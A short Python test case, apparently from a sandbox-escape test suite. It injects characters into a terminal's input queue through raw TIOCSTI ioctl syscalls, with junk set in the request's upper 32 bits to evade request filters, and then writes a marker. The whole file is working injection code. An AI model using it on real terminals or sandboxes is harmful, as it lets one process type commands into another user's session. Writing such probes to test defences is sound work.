# The same with rubbish in the upper half of the request.
# proof: tty
# control: none, because libc's ioctl cuts the upper half off by itself on some machines
import ctypes
import os


def attack(arg):
    fd = os.open(arg["tty"], os.O_RDWR | os.O_NOCTTY)
    call = ctypes.CDLL(None).syscall
    for letter in arg["marker"]:
        call(arg["nr"]["ioctl"], fd, ctypes.c_uint64((1 << 32) | 0x5412), ctypes.c_char_p(letter.encode()))
    os.write(fd, arg["marker"].encode())
    return True
